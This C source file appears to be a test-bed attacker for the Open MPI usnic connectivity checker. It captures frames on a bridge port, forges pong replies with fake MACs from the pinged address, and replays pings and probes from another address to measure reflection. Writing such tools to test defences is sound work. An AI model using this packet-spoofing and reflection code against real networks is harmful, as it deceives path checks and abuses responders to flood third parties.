/*
 * cc_forge: an attacker on the wire who answers connectivity pings
 * (btl_usnic_cc.h) that the path does not carry.
 *
 * It reads every frame that arrives on one interface (a bridge port of the
 * network-namespace test bed), and for each connectivity ping larger than
 * -m bytes (the sizes a black hole further on drops) it sends the pong the
 * pinged process would have sent: the ping's nonce, size and key, from the
 * pinged address and port, back through the same interface, so that it
 * reaches the checker as if it had crossed the path.  It does not know the
 * pinged process's secret, so the pong's MAC is 8 random bytes.  A checker
 * that took such a pong would believe the path carries the size.
 *
 * With -R ADDR it also tries to use the responders as reflectors: every
 * connectivity ping and liveness probe it reads (any size) is sent again,
 * unchanged, to where it was going, from a UDP socket of its own bound to
 * ADDR, as an attacker would do with a victim's address as the source.
 * Whatever comes back to that socket is an answer aimed at someone the
 * job never named (a reflection).  -m 0x7fffffff forges no pongs.
 *
 * Counters (key=value, one line): pings (connectivity pings seen), forged
 * (pongs sent), probes (liveness probes seen), replayed (pings and probes
 * sent again from ADDR), reflected (datagrams that came back to ADDR).
 * Written to the file -o at start-up (its appearance means "ready") and
 * after every change (a temporary file renamed), and printed to stdout
 * when SIGTERM or SIGINT ends the program.
 *
 * Usage: cc_forge -i IFNAME -m BYTES -o FILE [-R ADDR]
 * Runs as root, in the namespace that holds IFNAME (ip netns exec).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <unistd.h>

#include "btl_usnic_cc.h"

#define ETH_HLEN_ 14
#define IP_HLEN 20
#define UDP_HLEN 8

/* btl_usnic_live.h (it needs OPAL's headers): a probe is 40 bytes, magic
 * 0x4c55 in its first two, type 1 in its fourth */
#define LIVE_MAGIC 0x4c55u
#define LIVE_PROBE 1
#define LIVE_LEN 40

static volatile sig_atomic_t stop;
static unsigned long pings, forged, probes, replayed, reflected;
static const char *out_path;

static void on_signal(int sig)
{
    (void) sig;
    stop = 1;
}

static void write_counts(void)
{
    static unsigned long last = ~0ul;
    char tmp[4096];
    FILE *f;

    if (pings + forged + probes + replayed + reflected == last) {
        return; /* nothing new */
    }
    last = pings + forged + probes + replayed + reflected;
    snprintf(tmp, sizeof(tmp), "%s.tmp", out_path);
    f = fopen(tmp, "w");
    if (NULL == f) {
        return;
    }
    fprintf(f, "pings=%lu forged=%lu probes=%lu replayed=%lu reflected=%lu\n", pings, forged,
            probes, replayed, reflected);
    fclose(f);
    (void) rename(tmp, out_path);
}

static uint16_t ip_checksum(const uint8_t *p, size_t n)
{
    uint32_t sum = 0;

    for (size_t i = 0; i + 1 < n; i += 2) {
        sum += (uint32_t) (p[i] << 8 | p[i + 1]);
    }
    while (sum >> 16) {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    return (uint16_t) ~sum;
}

/* The UDP datagram in an IPv4 frame (not a fragment) of n bytes: its IP
 * header's length into *ihl and its payload's into *plen; false if the
 * frame holds none. */
static bool udp_in(const uint8_t *in, size_t n, size_t *ihl, size_t *plen)
{
    const uint8_t *ip = in + ETH_HLEN_;
    size_t ulen;

    if (n < ETH_HLEN_ + IP_HLEN + UDP_HLEN || in[12] != 0x08 || in[13] != 0x00 ||
        (ip[0] >> 4) != 4 || ip[9] != IPPROTO_UDP) {
        return false;
    }
    *ihl = (size_t) (ip[0] & 0x0f) * 4;
    if (*ihl < IP_HLEN || (ip[6] & 0x3f) != 0 || ip[7] != 0 || /* a fragment */
        n < ETH_HLEN_ + *ihl + UDP_HLEN) {
        return false;
    }
    ulen = (size_t) (ip[*ihl + 4] << 8 | ip[*ihl + 5]);
    if (ulen < UDP_HLEN || ETH_HLEN_ + *ihl + ulen > n) {
        return false;
    }
    *plen = ulen - UDP_HLEN;
    return true;
}

/* Send a ping or probe read in a frame again from fd (bound to the
 * reflection victim's address) to where it was going. */
static void replay(int fd, const uint8_t *in, size_t ihl, size_t plen)
{
    const uint8_t *ip = in + ETH_HLEN_;
    struct sockaddr_in to = {.sin_family = AF_INET};

    memcpy(&to.sin_addr, ip + 16, 4);
    memcpy(&to.sin_port, ip + ihl + 2, 2);
    if (sendto(fd, ip + ihl + UDP_HLEN, plen, MSG_DONTWAIT, (struct sockaddr *) &to, sizeof(to)) ==
        (ssize_t) plen) {
        replayed++;
    }
}

/* The frame in (n bytes) if it holds a connectivity ping larger than min:
 * its pong into out, returns the pong frame's length; 0 otherwise.  Pings
 * and liveness probes of any size are replayed from rfd (-1: not). */
static size_t forge(const uint8_t *in, size_t n, uint8_t *out, uint32_t min, int rfd)
{
    const uint8_t *ip = in + ETH_HLEN_;
    size_t ihl, ulen, plen;
    uint8_t *oip, *oudp;
    struct usnic_cc_ping ping;

    if (!udp_in(in, n, &ihl, &plen)) {
        return 0;
    }
    ulen = plen + UDP_HLEN;
    if (LIVE_LEN == plen) {
        const uint8_t *q = ip + ihl + UDP_HLEN;
        if ((q[0] | q[1] << 8) == LIVE_MAGIC && LIVE_PROBE == q[3]) {
            probes++;
            if (rfd >= 0) {
                replay(rfd, in, ihl, plen);
            }
        }
        return 0;
    }
    if (plen < sizeof(ping)) {
        return 0;
    }
    memcpy(&ping, ip + ihl + UDP_HLEN, sizeof(ping));
    if (USNIC_CC_MAGIC != ping.magic || USNIC_CC_PING != ping.type || ping.size != plen) {
        return 0;
    }
    pings++;
    if (rfd >= 0) {
        replay(rfd, in, ihl, plen);
    }
    if (plen <= min) {
        return 0;
    }
    /* Ethernet: back to where it came from */
    memcpy(out, in + 6, 6);
    memcpy(out + 6, in, 6);
    out[12] = 0x08;
    out[13] = 0x00;
    /* IPv4, 20 bytes, DF, from the pinged address to the pinger */
    oip = out + ETH_HLEN_;
    memset(oip, 0, IP_HLEN);
    oip[0] = 0x45;
    oip[2] = (uint8_t) ((IP_HLEN + ulen) >> 8);
    oip[3] = (uint8_t) (IP_HLEN + ulen);
    oip[6] = 0x40;
    oip[8] = 64;
    oip[9] = IPPROTO_UDP;
    memcpy(oip + 12, ip + 16, 4);
    memcpy(oip + 16, ip + 12, 4);
    {
        uint16_t c = ip_checksum(oip, IP_HLEN);
        oip[10] = (uint8_t) (c >> 8);
        oip[11] = (uint8_t) c;
    }
    /* UDP: ports swapped, no checksum (allowed over IPv4) */
    oudp = oip + IP_HLEN;
    memcpy(oudp, ip + ihl + 2, 2);
    memcpy(oudp + 2, ip + ihl, 2);
    oudp[4] = (uint8_t) (ulen >> 8);
    oudp[5] = (uint8_t) ulen;
    oudp[6] = oudp[7] = 0;
    /* the ping turned into its pong, with a MAC made up */
    memcpy(oudp + UDP_HLEN, ip + ihl + UDP_HLEN, plen);
    ping.type = USNIC_CC_PONG;
    if (sizeof(ping.mac) != getrandom(ping.mac, sizeof(ping.mac), 0)) {
        memset(ping.mac, 0x5a, sizeof(ping.mac));
    }
    memcpy(oudp + UDP_HLEN, &ping, sizeof(ping));
    return ETH_HLEN_ + IP_HLEN + ulen;
}

int main(int argc, char **argv)
{
    static uint8_t in[70000], out[70000];
    const char *ifname = NULL, *raddr = NULL;
    uint32_t min = 0;
    struct sockaddr_ll sll;
    struct sigaction sa;
    int opt, fd, rfd = -1;
    unsigned ifindex;

    while ((opt = getopt(argc, argv, "i:m:o:R:")) != -1) {
        switch (opt) {
        case 'i':
            ifname = optarg;
            break;
        case 'm':
            min = (uint32_t) strtoul(optarg, NULL, 10);
            break;
        case 'o':
            out_path = optarg;
            break;
        case 'R':
            raddr = optarg;
            break;
        default:
            fprintf(stderr, "usage: cc_forge -i IFNAME -m BYTES -o FILE [-R ADDR]\n");
            return 2;
        }
    }
    if (NULL == ifname || NULL == out_path || 0 == (ifindex = if_nametoindex(ifname))) {
        fprintf(stderr, "cc_forge: -i IFNAME (an existing interface) and -o FILE are needed\n");
        return 2;
    }
    /* ETH_P_ALL: frames a bridge port receives go to the bridge, past the
     * handlers of one protocol; only the taps of every protocol see them */
    fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    memset(&sll, 0, sizeof(sll));
    sll.sll_family = AF_PACKET;
    sll.sll_protocol = htons(ETH_P_ALL);
    sll.sll_ifindex = (int) ifindex;
    if (fd < 0 || 0 != bind(fd, (struct sockaddr *) &sll, sizeof(sll))) {
        fprintf(stderr, "cc_forge: packet socket on %s: %s\n", ifname, strerror(errno));
        return 1;
    }
    if (NULL != raddr) {
        struct sockaddr_in sin = {.sin_family = AF_INET};
        rfd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
        if (rfd < 0 || 1 != inet_pton(AF_INET, raddr, &sin.sin_addr) ||
            0 != bind(rfd, (struct sockaddr *) &sin, sizeof(sin))) {
            fprintf(stderr, "cc_forge: socket on %s: %s\n", raddr, strerror(errno));
            return 1;
        }
    }
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_signal;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    write_counts();
    while (!stop) {
        struct pollfd pfd[2] = {{.fd = fd, .events = POLLIN}, {.fd = rfd, .events = POLLIN}};
        struct sockaddr_ll from;
        socklen_t fl = sizeof(from);
        ssize_t n;
        size_t len;

        if (poll(pfd, rfd >= 0 ? 2 : 1, 200) <= 0) {
            continue;
        }
        if (rfd >= 0 && (pfd[1].revents & POLLIN)) {
            while (recv(rfd, out, sizeof(out), MSG_DONTWAIT) >= 0) {
                reflected++; /* an answer to a replay: the responder reflected it */
            }
            write_counts();
        }
        if (!(pfd[0].revents & POLLIN)) {
            continue;
        }
        n = recvfrom(fd, in, sizeof(in), MSG_DONTWAIT, (struct sockaddr *) &from, &fl);
        if (n <= 0 || PACKET_OUTGOING == from.sll_pkttype) {
            continue; /* (what we send ourselves shows up as outgoing) */
        }
        len = forge(in, (size_t) n, out, min, rfd);
        if (0 == len) {
            write_counts();
            continue;
        }
        memset(&sll, 0, sizeof(sll));
        sll.sll_family = AF_PACKET;
        sll.sll_protocol = htons(ETH_P_IP);
        sll.sll_ifindex = (int) ifindex;
        sll.sll_halen = 6;
        memcpy(sll.sll_addr, out, 6);
        if (sendto(fd, out, len, 0, (struct sockaddr *) &sll, sizeof(sll)) == (ssize_t) len) {
            forged++;
        } else {
            fprintf(stderr, "cc_forge: sending a %zu-byte pong: %s\n", len, strerror(errno));
        }
        write_counts();
    }
    write_counts();
    printf("cc_forge: stopped: pings=%lu forged=%lu probes=%lu replayed=%lu reflected=%lu\n", pings,
           forged, probes, replayed, reflected);
    return 0;
}
